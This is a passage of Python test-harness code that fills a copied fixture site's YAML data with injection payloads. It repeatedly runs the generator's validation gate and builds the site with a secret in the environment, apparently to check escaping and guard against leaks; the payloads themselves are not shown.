    for name, source in translations(block):
        if name in out:
            continue
        chinese: Any = filled
        for part in source.split("."):
            chinese = chinese.get(part) if isinstance(chinese, dict) else None
        if chinese is None or chinese is LEFT_OUT:
            out[name] = LEFT_OUT
        elif isinstance(chinese, list):
            out[name] = [None] * len(chinese)
    return out


def _node(node: Any, path: tuple) -> Any:
    """The YAML node at *path* under *node*, or None."""
    for part in path:
        if isinstance(part, str) and isinstance(node, yaml.MappingNode):
            node = next((v for k, v in node.value if k.value == part), None)
        elif isinstance(part, int) and isinstance(node, yaml.SequenceNode):
            node = node.value[part] if part < len(node.value) else None
        else:
            return None
        if node is None:
            return None
    return node


def _copy_fixture_city(fixtures: Path, target: Path, repo: Path) -> Path:
    """The fixture city's mkdocs.yml, content and data; its theme paths made absolute."""
    city = fixtures / "city"
    target.mkdir(parents=True)
    shutil.copytree(city / "content", target / "content")
    shutil.copytree(city / "data", target / "data")
    config = (city / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace("../../../theme/", (repo / "theme").as_posix() + "/")
    # the English edition too: its pages show the same payloads (as Chinese they fall
    # back to, marked with their lang), escaped again
    anchor = "      locales_dir: " + (repo / "theme").as_posix() + "/locales\n"
    assert anchor in config
    config = config.replace(anchor, anchor + "      editions: [en]\n")
    (target / "mkdocs.yml").write_text(config, encoding="utf-8")
    return target


def _load(path: Path) -> Any:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def prepare(project: Path) -> HostileSite:
    """Put a slot in every text field of every data file of the copied city."""
    hostile = HostileSite(project)
    data = project / "data"
    docs = hostile.documents

    site = _load(data / "site.yml") | SITE_EXTRA
    site["programme"] = site["programme"] | PROGRAMME_EXTRA
    docs["data/site.yml"] = hostile.fill(SiteConfig, site, "site", "data/site.yml")
    docs["data/holidays.yml"] = [
        hostile.fill(Holiday, h, "holidays", "data/holidays.yml", (i,))
        for i, h in enumerate(HOLIDAYS)]
    streets: dict[str, list[Slot]] = {}
    for name, cls in TAXONOMIES.items():
        file = f"data/taxonomies/{name}.yml"
        terms = _load(project / file)
        if name == "districts":
            for term in terms:
                term["streets"] = [None] * STREETS_PER_DISTRICT
        filled = [hostile.fill(cls, term, f"taxonomies/{name}", file, (i,))
                  for i, term in enumerate(terms)]
        if name == "districts":
            streets = {term["id"]: term["streets"] for term in filled}
        docs[file] = filled

    file = f"data/taxonomies/{THESAURUS_FILE}"  # two groups of two words, each a slot
    docs[file] = [[hostile.slot(THESAURUS_KIND, file, (g, i), text_format(THESAURUS_WORD))
                   for i in range(2)] for g in range(2)]

    counter = iter(range(10**6))

    def street(location: dict) -> Link:  # one of its district's streets, in turn
        options = streets[location["district"]]
        return Link(options[next(counter) % len(options)])

    links = {("PointLocation", "street"): street, ("ProjectLocation", "street"): street}
    extra = {"points": NEW_POINTS, "projects": NEW_PROJECTS, "cases": NEW_CASES,
             "years": NEW_YEARS}
    lock = data / "permalinks.lock"
    for collection, cls in COLLECTIONS.items():
        records = [_load(p) for p in sorted((data / collection).glob("*.yml"))]
        for record in records + extra[collection]:
            for event in record.get("events") or []:  # an event at a point has no venue
                if event.get("point"):
                    event.setdefault("venue", LEFT_OUT)
            key = str(record.get("id", record.get("year")))
            file = f"data/{collection}/{key}.yml"
            docs[file] = hostile.fill(cls, record, collection, file, links=links)
            if collection == "points" and record in extra[collection]:
                # new points' permalinks, as a local build would add them (CI adds none)
                lock.write_text(lock.read_text(encoding="utf-8") + f"v/{key}/\n",
                                encoding="utf-8")
    return hostile


MAX_ROUNDS = 12


def build_hostile_site(project: Path, fixtures: Path, repo: Path, build) -> HostileSite:
    """Copy the fixture city to *project*, fill it with payloads, take out what the check
    (the build's gate) refuses (keeping each refused state of the data under ``refused/<n>/data`` for the CLI), and
    build it with *build* (``conftest.build``) with a secret in the environment."""
    from generator.gate import admit
    from generator.mkdocs_plugin import check_sources

    _copy_fixture_city(fixtures, project, repo)
    hostile = prepare(project)
    for round_ in range(MAX_ROUNDS):
        hostile.write()
        try:
            _, issues = admit(check_sources(project / "mkdocs.yml"))  # as `showcase check`
        except Exception:  # noqa: BLE001 - a crash is what this looks for
            hostile.build_error = "validate crashed:\n" + traceback.format_exc()
            return hostile
        snapshot = f"refused/{round_}/data"
        if issues:
            shutil.copytree(project / "data", project / snapshot)
            hostile.snapshots.append(snapshot)
            if not hostile.refuse(issues, by_build=False, snapshot=snapshot):
                hostile.build_error = "refusals of no payload:\n" + "\n".join(map(str, issues))
                return hostile
            continue
        os.environ[SECRET_ENV] = SECRET
        try:
            hostile.site = build(project / "mkdocs.yml", project / "site")
            return hostile
        except DataError as error:  # check passed it, build refused it
            shutil.copytree(project / "data", project / snapshot)
            if not hostile.refuse(error.issues, by_build=True, snapshot=snapshot):
                hostile.build_error = "build refused, naming no payload:\n" + str(error)
                return hostile
        except Exception:  # noqa: BLE001
            hostile.build_error = "build crashed:\n" + traceback.format_exc()
            return hostile
        finally:
            os.environ.pop(SECRET_ENV, None)
    hostile.build_error = f"still refused after {MAX_ROUNDS} rounds"
    return hostile
